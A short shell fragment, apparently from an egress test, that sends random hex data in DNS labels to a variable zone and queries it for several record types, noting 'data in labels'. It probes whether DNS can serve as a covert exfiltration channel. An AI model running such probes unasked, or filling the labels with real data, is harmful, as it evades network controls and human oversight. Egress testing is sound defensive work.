for i in 1 2 3; do getent hosts "$(head -c 30 /dev/urandom | hex | cut -c1-60).$i.$NONCE.$CZONE" >/dev/null; done
for t in TXT NULL MX ANY AAAA A; do dnsq "$(nameserver)" udp "$t" "$t.$NONCE.$CZONE" >/dev/null; done
tried 'data in labels'
